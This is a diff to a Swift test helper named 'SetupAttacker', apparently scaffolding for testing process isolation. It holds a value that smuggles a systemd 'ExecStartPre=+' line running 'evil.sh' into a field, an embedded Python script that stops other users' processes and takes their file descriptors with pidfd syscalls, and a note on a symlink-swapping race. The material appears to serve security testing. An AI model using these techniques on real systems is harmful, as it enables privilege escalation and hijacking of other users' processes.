@@ -10,7 +10,8 @@ enum SetupAttacker {
     static let injection = "x\n[Service]\nExecStartPre=+/home/anna/evil.sh\n#"
 
     /// Waits for the process that acts as anna, stops it, and tries to write into what it says and to open its memory, for
-    /// which she would have to be allowed to trace it. Then it goes on, or stays as it is for somebody to have a look.
+    /// which she would have to be allowed to trace it. Then it goes on, or stays as it is for somebody to have a look; she
+    /// is done.
     ///
     /// pidfd_open and pidfd_getfd have one number each on every kind of machine.
     static let catching = #"""
@@ -34,11 +35,9 @@ enum SetupAttacker {
             except OSError:
                 return False
         print("ready", flush=True)
-        known = set()
         while True:
             for name in os.listdir("/proc"):
-                if not name.isdigit() or name in known or not caught(int(name)): continue
-                known.add(name)
+                if not name.isdigit() or not caught(int(name)): continue
                 process = int(name)
                 handle = libc.syscall(434, process, 0)
                 stream = libc.syscall(438, handle, 1, 0)
@@ -54,8 +53,8 @@ enum SetupAttacker {
                 with open("caught.new", "w") as file:
                     file.write(f"{process} {taken} {seen}\n")
                 os.rename("caught.new", "caught")
-                if "stay" in sys.argv: sys.exit()
-                os.kill(process, signal.SIGCONT)
+                if "go" in sys.argv: os.kill(process, signal.SIGCONT)
+                sys.exit()
         """#
 
     /// Swaps a folder for a link all the time.
